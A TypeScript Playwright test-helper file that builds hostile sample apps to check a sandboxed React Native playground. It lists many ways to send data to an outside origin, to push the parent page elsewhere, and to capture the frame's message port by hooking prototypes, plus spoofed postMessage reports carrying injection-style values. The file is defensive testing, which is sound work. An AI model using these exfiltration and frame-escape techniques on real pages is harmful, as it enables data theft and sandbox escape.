import {expect, type Page} from '@playwright/test';
import {possessions} from './possessions.ts';

/** What a sample has by the press of a button: the component that draws it, as the frame gets it. */
const app = (setUp: string, onPress: string): string => `
  const {createElement, useState} = require('react');
  const {Button, Text, View} = require('react-native');
  ${setUp}
  exports.default = () => {
    const [text, setText] = useState('ready');
    const run = async () => { ${onPress} };
    return createElement(View, null,
      createElement(Text, null, text),
      createElement(Button, {title: 'Attack', onPress: () => void run()}));
  };`;

/** Runs attempts one after the other, whatever becomes of each. */
const inOrder = (attempts: readonly string[]): string =>
  attempts.map((code) => `try { ${code} } catch {}`).join('\n');

/** Ways to send something to `to`, by name; without a policy each of them arrives. */
export const waysOut = {
  fetch: `await globalThis.fetch(to, {mode: 'no-cors'})`,
  xhr: `await new Promise((end) => {
    const request = new XMLHttpRequest();
    request.onloadend = end;
    request.open('POST', to);
    request.send('secret');
  })`,
  beacon: `navigator.sendBeacon(to, 'secret')`,
  ping: `add('a', {ping: to, href: '#there'}).click()`,
  image: `new Image().src = to`,
  background: `document.body.style.background = 'url(' + to + ')'`,
  font: `await new FontFace('hostile', 'url(' + to + ')').load()`,
  video: `add('video', {src: to, preload: 'auto'})`,
  script: `add('script', {src: to})`,
  style: `add('link', {rel: 'stylesheet', href: to})`,
  preload: `add('link', {rel: 'preload', as: 'script', href: to})`,
  import: `await import(to)`,
  worker: `new Worker(URL.createObjectURL(new Blob(['importScripts("' + to + '")'])))`,
  socket: `await new Promise((end) => {
    const socket = new WebSocket(to.replace('http', 'ws'));
    socket.onerror = socket.onopen = end;
  })`,
  events: `new EventSource(to)`,
  frame: `add('iframe', {src: to})`,
  'frame-with-text': `add('iframe', {srcdoc: '<img src="' + to + '">'})`,
  object: `add('object', {data: to})`,
  popup: `globalThis.open(to)`,
  link: `add('a', {href: to, target: '_blank'}).click()`,
  form: `add('form', {action: to, method: 'post', target: '_blank'}).submit()`,
} as const;

/** Ways to lead the page of the reader somewhere else. */
const waysUp = {
  top: `top.location.href = to`,
  parent: `parent.location.replace(to)`,
  'open-top': `globalThis.open(to, '_top')`,
  'link-top': `add('a', {href: to, target: '_top'}).click()`,
  'form-top': `add('form', {action: to, target: '_top'}).submit()`,
} as const;

/** Ways to lead the frame itself somewhere else by an element, which code cannot create. */
const waysByElement = {
  'own-link': `add('a', {href: to}).click()`,
  refresh: `add('meta', {httpEquiv: 'refresh', content: '0;url=' + to})`,
} as const;

/** Ways to lead the frame itself somewhere else. */
export const waysAway = {
  address: `location.href = to`,
  data: `location.href = 'data:text/html,<img src="' + to + '">'`,
} as const;

const add = `const add = (name, parts) => {
  const element = Object.assign(document.createElement(name), parts);
  document.body.append(element);
  return element;
};`;

const scriptOf = (origin: string, ways: Readonly<Record<string, string>>): string =>
  inOrder(Object.entries(ways).map(([name, code]) => `const to = '${origin}/${name}'; ${code};`));

/** The same ways for a page without a policy. */
export const unguarded = (origin: string): string =>
  `${add} void (async () => { ${scriptOf(origin, waysOut)} })();`;

/** An app that tries every way to reach a server or to lead the page away. */
export const leakingApp = (origin: string): string =>
  app(add, `${scriptOf(origin, {...waysOut, ...waysUp, ...waysByElement})} setText('tried');`);

/** An app that leads its own frame away. */
export const leavingApp = (origin: string, way: string): string =>
  app(add, scriptOf(origin, {away: way}));

/** What an app says that got nothing. */
export const gotNothing = `got: ; refused: ${Object.keys(possessions).length}`;

/** An app that says what it could get hold of. */
export const graspingApp = (): string =>
  app(
    '',
    `const got = [];
    let refused = 0;
    ${Object.entries(possessions)
      .map(([name, code]) => `try { ${code}; got.push('${name}'); } catch { refused += 1; }`)
      .join('\n')}
    setText('got: ' + got.join(', ') + '; refused: ' + refused);`,
  );

/** Gives apps the frame's way to the page, which they could have only by a mistake in the frame. */
export async function exposePort(page: Page): Promise<void> {
  await page.route(/\/assets\/play\/\d[\d.]*\.\w+\.js$/, async (route) => {
    const answer = await route.fetch();
    await route.fulfill({response: answer, body: `Math.port = port;${await answer.text()}`});
  });
}

/** An app that sends a message to the page, by the port or to its window, once or without end. */
export const sendingApp = (message: string, to: 'port' | 'window', count = 1): string =>
  app(
    'const {postMessage: post} = Object.getPrototypeOf(new MessageChannel().port1);',
    `const message = ${message};
    for (let count = 0; count < ${count}; count += 1)
      ${to === 'port' ? 'Reflect.apply(post, Math.port, [message])' : "top.postMessage(message, '*')"};`,
  );

/** An app that says whether it can get hold of the frame's way to the page. */
export const graspingPortApp = (): string =>
  app(
    `const ports = new Set();
    const prototype = Object.getPrototypeOf(new MessageChannel().port1);
    const post = prototype.postMessage;
    prototype.postMessage = function (...parts) {
      ports.add(this);
      return Reflect.apply(post, this, parts);
    };
    for (const name of ['call', 'apply', 'bind']) {
      const real = Function.prototype[name];
      Object.defineProperty(Function.prototype, name, {value: function (first, ...rest) {
        if (first === Math.port) ports.add(first);
        return Reflect.apply(real, this, [first, ...rest]);
      }});
    }`,
    `await null; setText('ports: ' + [...ports].filter((port) => port === Math.port).length);`,
  );

/** Reports that a page must not show, which fit into the limit of the port. */
export const falseReportsApp = (): string =>
  app(
    'const {postMessage: post} = Object.getPrototypeOf(new MessageChannel().port1);',
    `const line = {time: 0, place: 'app', what: 'hostile', details: ''};
    const row = {purchase: 'T1', productId: 'hostile', state: 'hostile', paid: true,
      given: 2, finished: true, refunded: false};
    const view = {time: 0, obeyed: 0, running: true, blank: false, sheet: null, acts: [],
      ledger: [row], faults: [], buttons: []};
    const messages = [
      {type: 'problem', message: 'hostile'.repeat(1_000)},
      {type: 'log', lines: Array.from({length: 5_000}, () => line)},
      {type: 'log', lines: [{...line, time: '<img src=x>'}]},
      {type: 'log', lines: [{...line, time: 1e300}]},
      {type: 'log', lines: Array(5)},
      {type: 'view', view: {screen: 'hostile'}},
      {type: 'view', view: {...view, time: 1e300}},
      {type: 'view', view: {...view, faults: [{kind: '__proto__', purchase: 'T1'}]}},
      {type: 'playground', code: 'hostile'},
    ];
    for (const message of messages) {
      Reflect.apply(post, Math.port, [JSON.stringify(message)]);
      top.postMessage(message, '*');
    }
    setText('sent');`,
  );

/** Lets the page of an example load another app. */
export async function replaceApp(page: Page, code: string): Promise<void> {
  await page.route('**/assets/play/*-basic-store.*.json', (route) =>
    route.fulfill({
      json: {files: [{name: 'app.js', code}], entry: 'app', props: {}, functions: []},
    }),
  );
}

/** Expects that the page of the reader is where it was, in one window. */
export async function expectSamePlace(page: Page, address: string): Promise<void> {
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(1);
  await expect(page.getByRole('article')).toContainText('useCoinStore');
}
